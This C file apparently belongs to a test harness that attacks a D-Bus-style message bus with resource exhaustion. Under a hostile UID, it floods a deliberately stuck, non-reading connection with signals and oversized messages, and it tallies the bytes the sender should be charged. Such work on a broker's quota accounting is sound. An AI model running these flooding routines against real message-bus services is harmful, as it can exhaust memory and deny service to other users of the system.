/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

/*
 * Small messages wait in a queue, each read together with much that does not. shared->harm is what the sender
 * is charged, in bytes: the sizes of the messages. All wait when the attack is ready.
 */

#define FILL 400
#define SETTLE_US 300000

/* A connection that reads nothing, and whose socket is full. */
static void stuck(struct connection *c, struct connection *sender)
{
    struct buffer out = {0};
    int least = 2048;
    attack_join(c);
    setsockopt(c->fd, SOL_SOCKET, SO_RCVBUF, &least, sizeof(least));
    put_signal(&out, c->name, 2000);
    for (int i = 0; i < FILL; i++)
        attack_pour(sender, &out);
    atomic_fetch_add(&shared->harm, FILL * out.size);
    usleep(SETTLE_US);
}

/* One that waits, between a call that stops the sender's reading for a moment and signals that go nowhere. */
void waiting_tail(void *argument)
{
    struct connection sender = {0}, reader = {0};
    struct buffer out = {0}, body = {0}, waits = {0}, passes = {0};
    (void)argument;
    hostile_set_uid();
    attack_join(&sender);
    stuck(&reader, &sender);
    put_signal(&waits, reader.name, 2200);
    put_signal(&passes, NULL, 2600);
    put_repeated(&passes, 130000);
    buffer_string(&body, BUS);
    for (int i = 0; i < attack_options.count; i++) {
        out.size = 0;
        put_driver_call(&out, "GetConnectionUnixUser", "s", &body);
        buffer_put(&out, waits.data, waits.size);
        buffer_put(&out, passes.data, passes.size);
        attack_pour(&sender, &out);
        attack_sync(&sender);
        atomic_fetch_add(&shared->harm, waits.size);
    }
    process_ready();
    pause();
}

/* One of 256 KiB that waits, after each one of 8 MiB that does not: is the large buffer used again? */
void waiting_pool(void *argument)
{
    struct connection sender = {0}, reader = {0};
    struct buffer waits = {0}, passes = {0};
    (void)argument;
    hostile_set_uid();
    attack_join(&sender);
    stuck(&reader, &sender);
    put_signal(&waits, reader.name, (256u << 10) + 2048);
    put_signal(&passes, NULL, (8u << 20) - (68u << 10));
    for (int i = 0; i < attack_options.count; i++) {
        attack_pour(&sender, &passes);
        attack_sync(&sender);
        usleep(20000);
        attack_pour(&sender, &waits);
        attack_sync(&sender);
        atomic_fetch_add(&shared->harm, waits.size);
    }
    process_ready();
    pause();
}
